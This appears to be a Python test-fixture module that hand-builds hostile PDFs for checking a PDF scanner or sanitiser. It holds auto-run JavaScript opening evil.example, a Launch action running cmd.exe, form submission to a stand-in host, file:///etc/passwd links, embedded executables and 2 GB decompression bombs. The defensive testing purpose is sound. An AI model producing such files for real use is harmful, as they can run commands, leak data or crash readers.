"""Hostile PDFs, written by hand where no library would write such a file."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

Maker = Callable[[Path], object]

_PAGES = ("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 200 300] >>")


def raw(*objects: str | bytes, trailer: str = "", end: str = "") -> bytes:
    """A PDF of numbered objects as they stand, with a right table. `end` is put behind its end."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        body = content.encode() if isinstance(content, str) else content
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    head = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    tail = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{len(out)}\n%%EOF\n{end}"
    return out + f"{head}{tail}".encode()


def page(entries: str = "", *more: str | bytes, trailer: str = "") -> bytes:
    """One page with these entries; further objects are numbered from 4."""
    return raw(*_PAGES, f"<< /Type /Page /Parent 2 0 R {entries} >>", *more, trailer=trailer)


def stream(data: bytes, entries: str = "") -> bytes:
    """A stream object as it stands."""
    return f"<< /Length {len(data)} {entries} >>\nstream\n".encode() + data + b"\nendstream"


def inflating(megabytes: int, block: bytes = bytes(1_000_000)) -> bytes:
    """Flate data that unpacks to so many megabytes: a packed block, again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + packed * megabytes + b"\x03\x00" + bytes(4)


def write(data: bytes) -> Maker:
    """A maker that writes these bytes."""
    return lambda path: path.write_bytes(data)


def late(make: Callable[[], bytes]) -> Maker:
    """A maker that works the bytes out only when it is asked."""
    return lambda path: path.write_bytes(make())


def edited(edit: Callable[[pikepdf.Pdf], object], **how: Any) -> Maker:
    """A maker of one plain page that is changed with pikepdf."""

    def make(path: Path) -> None:
        with pikepdf.open(io.BytesIO(page())) as pdf:
            edit(pdf)
            pdf.save(path, **how)

    return make


def _annotation(pdf: pikepdf.Pdf, subtype: str, **entries: Any) -> None:
    """Put an annotation, written directly into its page, on the first page."""
    made = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=Array([10, 10, 90, 40]), **entries)
    pdf.pages[0].obj["/Annots"] = Array([made])


def _action(kind: str, **entries: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **entries)


SCRIPT = "app.launchURL('https://evil.example', true)"
_FILE = Dictionary(Type=Name.Filespec, F="evil.exe", UF="evil.exe")


def _opening_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root["/OpenAction"] = _action("JavaScript", JS=SCRIPT)


def _script_in_names(pdf: pikepdf.Pdf) -> None:
    leaf = Dictionary(Names=Array([String("a"), _action("JavaScript", JS=Stream(pdf, SCRIPT.encode()))]))
    pdf.Root["/Names"] = Dictionary(JavaScript=Dictionary(Kids=Array([pdf.make_indirect(leaf)])))


def _script_of_a_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj["/AA"] = Dictionary(O=_action("GoTo", Next=Array([_action("JavaScript", JS=SCRIPT)])))


def _script_deep_inside(pdf: pikepdf.Pdf) -> None:
    inner = _action("JavaScript", JS=SCRIPT)
    for _ in range(60):
        inner = Dictionary(K=Array([inner]))
    pdf.Root["/StructTreeRoot"] = inner


def _script_in_a_field(pdf: pikepdf.Pdf) -> None:
    keys = Dictionary(K=_action("JavaScript", JS=SCRIPT))
    _annotation(pdf, "Widget", FT=Name.Tx, T="name", V="value", DA="/Helv 12 Tf", AA=keys)
    field = pdf.make_indirect(pdf.pages[0].obj.Annots[0])
    pdf.pages[0].obj.Annots[0] = field
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([field]), NeedAppearances=True)


def _script_in_a_look(pdf: pikepdf.Pdf) -> None:
    look = Stream(pdf, b"0 0 10 10 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 80, 30]))
    look["/Resources"] = Dictionary(Properties=Dictionary(P=Dictionary(X=_action("JavaScript", JS=SCRIPT))))
    _annotation(pdf, "Stamp", AP=Dictionary(N=pdf.make_indirect(look)))


def _launch(pdf: pikepdf.Pdf) -> None:
    _annotation(pdf, "Link", A=_action("Launch", F="cmd.exe", Win=Dictionary(F="cmd.exe", P="/c calc")))


def _attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = b"MZ" + bytes(60)


def _attached_note(pdf: pikepdf.Pdf) -> None:
    spec = Dictionary(Type=Name.Filespec, F="x", EF=Dictionary(F=Stream(pdf, b"MZ", Type=Name.EmbeddedFile)))
    _annotation(pdf, "FileAttachment", FS=spec)


def _rich_media(pdf: pikepdf.Pdf) -> None:
    _annotation(pdf, "RichMedia", RichMediaContent=Dictionary(Assets=Dictionary()))


def _xfa(pdf: pikepdf.Pdf) -> None:
    data = Stream(pdf, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([]), XFA=pdf.make_indirect(data))


def _xfa_alone(pdf: pikepdf.Pdf) -> None:
    _xfa(pdf)
    pdf.Root["/NeedsRendering"] = True


def _outside_data(pdf: pikepdf.Pdf) -> None:
    content = Stream(pdf, b"", F=Dictionary(Type=Name.Filespec, FS=Name.URL, F="https://evil.example/x"))
    pdf.pages[0].obj["/Contents"] = pdf.make_indirect(content)


def _outside_page(pdf: pikepdf.Pdf) -> None:
    form = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form["/Ref"] = Dictionary(F="other.pdf", Page=0)
    pdf.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(X=pdf.make_indirect(form)))
    pdf.pages[0].obj["/Contents"] = Stream(pdf, b"/X Do")


def _postscript(pdf: pikepdf.Pdf) -> None:
    program = Stream(pdf, b"(/etc/passwd) (r) file", Type=Name.XObject, Subtype=Name.PS)
    pdf.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(X=pdf.make_indirect(program)))
    pdf.pages[0].obj["/Contents"] = Stream(pdf, b"/X Do")


def _draws_itself(pdf: pikepdf.Pdf) -> None:
    form = Stream(pdf, b"/X Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form = pdf.make_indirect(form)
    form["/Resources"] = Dictionary(XObject=Dictionary(X=form))
    pdf.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(X=form))
    pdf.pages[0].obj["/Contents"] = Stream(pdf, b"/X Do")


def _doubly_packed() -> bytes:
    """A font of 2 GB in some kilobytes: packed, and packed again."""
    twice = stream(zlib.compress(inflating(2000)), "/Filter [/FlateDecode /FlateDecode]")
    face = "<< /Type /FontDescriptor /FontName /F /Flags 4 /FontFile2 5 0 R >>"
    font = "/Resources << /Font << /F << /Type /Font /Subtype /TrueType /BaseFont /F /FontDescriptor 4 0 R >> >> >>"
    return page(font, face, twice)


def _image(width: int, height: int, data: Callable[[], bytes]) -> Maker:
    def make(path: Path) -> None:
        entries = f"/Type /XObject /Subtype /Image /Width {width} /Height {height} /BitsPerComponent 8"
        picture = stream(data(), f"{entries} /ColorSpace /DeviceGray /Filter /FlateDecode")
        show = "/Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R"
        path.write_bytes(page(show, picture, stream(b"200 0 0 300 0 0 cm /I Do")))

    return make


def _object_stream_bomb() -> bytes:
    """Objects in a stream of their own that unpacks to 2 GB; the table is a stream, too."""
    head = b"%PDF-1.7\n"
    packed = b"1 0 obj\n" + stream(inflating(2000), "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") + b"\nendobj\n"
    at = len(head) + len(packed)
    rows = b"".join(row.to_bytes(1, "big") + a.to_bytes(4, "big") + b.to_bytes(1, "big") for row, a, b in (
        (0, 0, 0), (1, len(head), 0), (2, 1, 0), (1, at, 0)
    ))  # fmt: skip
    table = stream(rows, "/Type /XRef /Size 4 /W [1 4 1] /Root 2 0 R")
    return head + packed + b"3 0 obj\n" + table + f"\nendobj\nstartxref\n{at}\n%%EOF\n".encode()


def _many_parts(path: Path) -> None:
    """More objects than are looked through; the last one is a script."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 300))
    pdf.Root["/PieceInfo"] = Dictionary(X=Array([Dictionary(N=n) for n in range(310_000)]))
    pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _many_pages(path: Path) -> None:
    kids = " ".join(f"{number} 0 R" for number in range(3, 5003))
    pages = f"<< /Type /Pages /Kids [{kids}] /Count 5000 /MediaBox [0 0 200 300] /Resources << >> >>"
    path.write_bytes(raw(_PAGES[0], pages, *["<< /Type /Page /Parent 2 0 R >>"] * 5000))


def _deep_tree() -> bytes:
    """A tree of pages in which each branch has one branch, 20,000 deep."""
    branches = [f"<< /Type /Pages /Kids [{number + 1} 0 R] /Count 1 /Parent {number - 1} 0 R >>"
                for number in range(3, 20_003)]  # fmt: skip
    leaf = "<< /Type /Page /Parent 20002 0 R /MediaBox [0 0 9 9] >>"
    return raw(_PAGES[0], "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", *branches, leaf)


def _locked(user: str) -> Maker:
    return edited(lambda pdf: None, encryption=pikepdf.Encryption(owner="owner", user=user))


def _link(address: str) -> Maker:
    return edited(lambda pdf: _annotation(pdf, "Link", A=_action("URI", URI=address)))


# Those that can act, with the word by which the finding names it. All are printed, without what acts.
ACTIVE: dict[str, tuple[Maker, str]] = {
    "script-when-opened": (edited(_opening_script), "JavaScript, OpenAction"),
    "script-in-a-tree-of-names": (edited(_script_in_names), "JavaScript"),
    "script-of-a-page-behind-another-action": (edited(_script_of_a_page), "JavaScript"),
    "script-sixty-levels-deep": (edited(_script_deep_inside), "JavaScript"),
    "script-in-a-field": (edited(_script_in_a_field), "JavaScript"),
    "script-in-a-stamp": (edited(_script_in_a_look), "JavaScript"),
    "launch-in-a-direct-annotation": (edited(_launch), "Launch"),
    "form-that-sends-itself": (
        edited(lambda pdf: _annotation(pdf, "Link", A=_action("SubmitForm", F="https://evil.example"))),
        "AcroForm submit",
    ),
    "form-that-fetches": (
        edited(lambda pdf: _annotation(pdf, "Link", A=_action("ImportData", F=_FILE))),
        "ImportData",
    ),
    "goes-to-another-file": (
        edited(lambda pdf: _annotation(pdf, "Link", A=_action("GoToR", F=_FILE, D=Array([0])))),
        "GoToR",
    ),
    "goes-to-a-file-inside": (edited(lambda pdf: _annotation(pdf, "Link", A=_action("GoToE", F=_FILE))), "GoToE"),
    "link-that-is-a-script": (_link("javascript:alert(1)"), "Unusual link"),
    "link-to-the-disk": (_link("file:///etc/passwd"), "Unusual link"),
    "film": (edited(lambda pdf: _annotation(pdf, "Movie", Movie=Dictionary(F=_FILE))), "Movie"),
    "sound": (edited(lambda pdf: _annotation(pdf, "Link", A=_action("Sound"))), "Sound"),
    "rendition": (edited(lambda pdf: _annotation(pdf, "Screen", A=_action("Rendition", OP=0))), "Rendition, Screen"),
    "rich-media": (edited(_rich_media), "RichMedia"),
    "three-dimensions": (edited(lambda pdf: _annotation(pdf, "3D")), "3D"),
    "xfa": (edited(_xfa), "XFA"),
    "data-from-outside": (edited(_outside_data), "External data"),
    "page-from-outside": (edited(_outside_page), "Reference XObject"),
}  # fmt: skip

# Those with files inside.
HOLDING: dict[str, Maker] = {"attachment": edited(_attachment), "attached-note": edited(_attached_note)}

# Those that are refused, with a part of the finding.
REFUSED: dict[str, tuple[Maker, str]] = {
    "cut-off": (write(page()[:150]), "is damaged"),
    "pages-in-a-ring": (write(raw(_PAGES[0], "<< /Type /Pages /Kids [2 0 R] /Count 1 >>")), "is damaged"),
    "pages-in-a-larger-ring": (
        write(raw(_PAGES[0], "<< /Type /Pages /Kids [3 0 R] /Count 2 >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>")),
        "is damaged",
    ),
    "pages-twenty-thousand-deep": (late(_deep_tree), ""),
    "pages-that-are-not-there": (
        write(raw(_PAGES[0], "<< /Type /Pages /Kids [] /Count 1000000 >>")),
        "is damaged",
    ),
    "no-pages": (write(raw("<< /Type /Catalog >>")), "is damaged"),
    "table-in-a-ring": (write(page(trailer="/Prev 9")), "is damaged"),
    "table-elsewhere": (write(page().replace(b"startxref\n", b"startxref\n99")), "is damaged"),
    "arrays-100000-deep": (write(page("/A " + "[" * 100_000 + "]" * 100_000)), "is damaged"),
    "dictionaries-100000-deep": (write(page("/A " + "<< /A " * 100_000 + "1" + " >>" * 100_000)), "is damaged"),
    "content-of-2-gigabytes": (
        late(lambda: page("/Contents 4 0 R", stream(inflating(2000, b"0 0 m " * 166_666), "/Filter /FlateDecode"))),
        "unpacks to more than 128 MB",
    ),
    "picture-of-2-gigabytes": (_image(1000, 1000, lambda: inflating(2000)), "unpacks to more than 512 MB"),
    "picture-of-400-million-pixels": (_image(20_000, 20_000, lambda: inflating(400)), "more than 200 million pixels"),
    "font-packed-twice": (late(_doubly_packed), "unpacks to more than 512 MB"),
    "objects-of-2-gigabytes": (late(_object_stream_bomb), ""),
    "5000-pages": (_many_pages, "more than 200 pages"),
    "user-password": (_locked("user"), "asks for a password"),
}

# Odd, but whole, and nothing in them acts: no finding.
HARMLESS: dict[str, Maker] = {
    "owner-password": _locked(""),
    "behind-500-newlines": write(b"\n" * 500 + page()),
    "page-without-a-size": write(page("/MediaBox [0 0 1e30 -1e30]")),
    "draws-itself": edited(_draws_itself),
    "postscript": edited(_postscript),
    "zip-behind-its-end": write(page() + b"PK\x03\x04" + bytes(200)),
    "link-to-a-page": _link("https://nordanvind.example/azure"),
}

XFA_ALONE = edited(_xfa_alone)
MANY_PARTS = _many_parts
